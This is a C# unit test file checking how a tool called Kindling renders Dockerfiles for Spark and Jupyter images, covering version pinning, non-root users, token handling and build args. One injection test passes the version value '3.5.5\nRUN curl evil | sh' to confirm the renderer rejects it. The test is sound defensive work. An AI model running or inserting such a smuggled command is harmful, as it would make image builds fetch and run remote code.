using Kindling.Configuration;
using Kindling.Images;

namespace Kindling.Tests.Images;

public sealed class DockerfileSetTests
{
    private static string File(IReadOnlyList<RenderedFile> files, string path) => files.Single(f => f.RelativePath == path).Content;

    [Fact]
    public void Default_files_match_the_golden_files()
    {
        var files = DockerfileSet.Render(new EnvironmentSpec());

        files.Select(f => f.RelativePath).Should().Equal(
            "images/build-args.env", "images/jupyter/Dockerfile", "images/spark/Dockerfile", "images/spark/packages.txt", "images/spark/requirements.txt");
        foreach (var file in files) Golden.Match(file.RelativePath, file.Content);
    }

    [Fact]
    public void Rendering_is_deterministic()
    {
        var first = DockerfileSet.Render(new EnvironmentSpec());
        var second = DockerfileSet.Render(new EnvironmentSpec());

        second.Should().Equal(first);
    }

    [Fact]
    public void Spark_image_is_the_official_python_image_of_the_pinned_versions()
    {
        var spec = new EnvironmentSpec
        {
            Spark = new SparkSpec { Version = "4.0.1", ScalaVersion = "2.13", JavaVersion = 21, PythonVersion = "3.10" },
        };

        var dockerfile = File(DockerfileSet.Render(spec), DockerfileSet.SparkDockerfile);

        dockerfile.Should().Contain("ARG SPARK_VERSION=4.0.1\n")
            .And.Contain("ARG SCALA_VERSION=2.13\n")
            .And.Contain("ARG JAVA_VERSION=21\n")
            .And.Contain("ARG PYTHON_VERSION=3.10\n")
            .And.Contain("ARG HADOOP_VERSION=3.4.1\n")
            .And.Contain("ARG AWS_SDK_BUNDLE=software.amazon.awssdk:bundle:2.24.6\n")
            .And.Contain("FROM apache/spark:${SPARK_VERSION}-scala${SCALA_VERSION}-java${JAVA_VERSION}-python3-ubuntu\n")
            .And.Contain("ENV PYSPARK_PYTHON=python3\n")
            .And.Contain("org.opencontainers.image.version=\"${SPARK_VERSION}\"");
        Instructions(dockerfile).Where(i => i.StartsWith("USER ", StringComparison.Ordinal)).Last()
            .Should().Be("USER 185", "the kubelet can only check runAsNonRoot against a numeric user");
    }

    [Fact]
    public void Jupyter_image_is_built_from_the_spark_image_and_serves_with_the_token_from_the_environment()
    {
        var spec = new EnvironmentSpec { Notebook = new NotebookSpec { Port = 9999 } };

        var dockerfile = File(DockerfileSet.Render(spec), DockerfileSet.JupyterDockerfile);
        var instructions = Instructions(dockerfile);

        instructions.Should().Contain("FROM ${SPARK_IMAGE}");
        instructions.Should().Contain("ARG JUPYTER_PORT=9999").And.Contain("EXPOSE ${JUPYTER_PORT}");
        instructions.Single(i => i.StartsWith("COPY ", StringComparison.Ordinal))
            .Should().Be("COPY --chown=185:185 00-kindling-spark.py /opt/kindling/ipython/profile_default/startup/00-kindling-spark.py");
        Path.GetFileName(DockerfileSet.NotebookStartupFile).Should().Be("00-kindling-spark.py", "Render places the file the Dockerfile copies");
        dockerfile.Should().Contain("PYSPARK_DRIVER_PYTHON=python3").And.Contain("IPYTHONDIR=/opt/kindling/ipython");
        instructions.Where(i => i.StartsWith("USER ", StringComparison.Ordinal)).Last().Should().Be("USER 185");

        var cmd = instructions.Single(i => i.StartsWith("CMD ", StringComparison.Ordinal));
        cmd.Should().Contain("exec jupyter server").And.Contain("--ServerApp.ip=0.0.0.0");
        cmd.Should().NotContainAny("--IdentityProvider.token", "--ServerApp.token", "--NotebookApp.token");
        cmd.Should().Contain("JUPYTER_TOKEN", "the server refuses to start without the token rather than generate and log one");
    }

    [Fact]
    public void Every_jupyter_pip_install_is_pinned()
    {
        var dockerfile = File(DockerfileSet.Render(new EnvironmentSpec()), DockerfileSet.JupyterDockerfile);
        var requirements = System.Text.RegularExpressions.Regex.Matches(dockerfile, "\"([a-z_]+)==\\$\\{([A-Z_]+)\\}\"");

        requirements.Select(m => m.Groups[1].Value).Should().BeEquivalentTo("jupyterlab", "jupyter_server", "ipykernel");
        foreach (var arg in requirements.Select(m => m.Groups[2].Value))
            dockerfile.Should().MatchRegex($"ARG {arg}=[0-9]+\\.[0-9]+\\.[0-9]+\n");
    }

    [Fact]
    public void Build_args_file_lists_what_images_build_passes()
    {
        var files = DockerfileSet.Render(new EnvironmentSpec());

        File(files, DockerfileSet.BuildArgsFile).Split('\n').Where(l => l.Length > 0 && !l.StartsWith('#'))
            .Should().Equal("AWS_SDK_BUNDLE=com.amazonaws:aws-java-sdk-bundle:1.12.262", "HADOOP_VERSION=3.3.4", "JAVA_VERSION=17", "JUPYTER_PORT=8888",
                "MAVEN_REPOSITORY=https://repo1.maven.org/maven2", "PYTHON_VERSION=3.10",
                "S3A_JARS=org/apache/hadoop/hadoop-aws/3.3.4/hadoop-aws-3.3.4.jar com/amazonaws/aws-java-sdk-bundle/1.12.262/aws-java-sdk-bundle-1.12.262.jar",
                "SCALA_VERSION=2.12", "SPARK_VERSION=3.5.8");
        DockerfileSet.JupyterBuildArgs(new EnvironmentSpec(), "r/spark:t")
            .Should().Equal(new Dictionary<string, string> { ["JUPYTER_PORT"] = "8888", ["PYTHON_VERSION"] = "3.10", ["SPARK_IMAGE"] = "r/spark:t" });
    }

    [Theory]
    [InlineData("3.5.5\nRUN curl evil | sh")]
    [InlineData("3.5 .5")]
    [InlineData("")]
    public void A_version_that_could_inject_an_instruction_is_bad_input(string version)
    {
        var spec = new EnvironmentSpec { Spark = new SparkSpec { Version = version } };

        var act = () => DockerfileSet.Render(spec);

        act.Should().Throw<InvalidInputException>().Which.Errors.Single().Path.Should().Be("spark.version");
    }

    [Fact]
    public void Every_image_label_name_comes_from_the_one_constant_list()
    {
        var files = DockerfileSet.Render(new EnvironmentSpec());
        var spark = File(files, DockerfileSet.SparkDockerfile);

        foreach (var label in new[] { ImageLabels.SparkVersion, ImageLabels.PythonVersion, ImageLabels.HadoopVersion, ImageLabels.ScalaVersion, ImageLabels.JavaVersion, ImageLabels.AwsSdkBundle })
            spark.Should().Contain($"{label}=\"${{");
        File(files, DockerfileSet.JupyterDockerfile).Should().Contain($"{ImageLabels.PythonVersion}=\"${{PYTHON_VERSION}}\"");
        files.Should().NotContain(f => System.Text.RegularExpressions.Regex.IsMatch(f.Content, "@[A-Z][A-Z0-9_]*@"), "every placeholder is filled");
    }

    [Fact]
    public void Requirements_pin_pandas_pyarrow_numpy_for_the_spark_line_then_the_users_packages()
    {
        var spec = new EnvironmentSpec();
        spec = spec with { Spark = spec.Spark with { PythonPackages = ["scikit-learn==1.5.2", "requests>=2.31"], Packages = ["io.delta:delta-spark_2.12:3.2.0"] } };

        var files = DockerfileSet.Render(spec);

        File(files, DockerfileSet.RequirementsFile).Split('\n').Where(l => l.Length > 0 && !l.StartsWith('#'))
            .Should().Equal("numpy==1.24.4", "pandas==2.0.3", "pyarrow==12.0.1", "scikit-learn==1.5.2", "requests>=2.31");
        File(files, DockerfileSet.PackagesFile).Split('\n').Where(l => l.Length > 0 && !l.StartsWith('#'))
            .Should().Equal("io.delta:delta-spark_2.12:3.2.0");
        var spark = File(files, DockerfileSet.SparkDockerfile);
        spark.Should().Contain("COPY requirements.txt /opt/kindling/requirements.txt").And.Contain("COPY packages.txt /opt/kindling/packages.txt");
        Instructions(File(files, DockerfileSet.JupyterDockerfile)).Should().NotContain(i => i.Contains("pandas", StringComparison.Ordinal),
            "the notebook gets pandas from the Spark image, as executors do");
    }

    [Fact]
    public void The_platform_is_part_of_the_context_so_an_image_of_another_architecture_gets_another_tag()
    {
        var amd = new EnvironmentSpec();
        var arm = amd with { Aws = amd.Aws with { NodeInstanceType = "m7g.large" } };

        File(DockerfileSet.Render(arm), DockerfileSet.BuildArgsFile).Should().Contain("--platform linux/arm64");
        ImageTag.Compute(arm, ImageBuildContext.Render(arm)).Should().NotBe(ImageTag.Compute(amd, ImageBuildContext.Render(amd)));
    }

    // Dockerfile instructions with continuation lines joined and comments dropped.
    internal static IReadOnlyList<string> Instructions(string dockerfile)
    {
        var result = new List<string>();
        var current = "";
        foreach (var raw in dockerfile.Split('\n'))
        {
            var line = raw.TrimEnd();
            if (current.Length == 0 && (line.Length == 0 || line.TrimStart().StartsWith('#'))) continue;
            if (line.EndsWith('\\'))
            {
                current += line[..^1].Trim() + " ";
                continue;
            }
            result.Add((current + line.Trim()).Trim());
            current = "";
        }
        return result;
    }
}
